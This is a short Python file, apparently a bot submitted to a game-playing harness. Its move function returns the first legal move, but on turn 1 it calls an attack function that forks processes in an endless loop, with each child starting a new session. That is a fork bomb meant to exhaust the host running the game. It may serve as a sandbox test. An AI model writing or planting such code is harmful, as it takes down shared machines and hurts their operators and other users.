"""Forks without end, each child in a session of its own."""

import os

from sdk import run


def attack():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass


def choose(observation, legal, context):
    if context.turn == 1:
        attack()
    return legal[0]["id"]


run(choose)
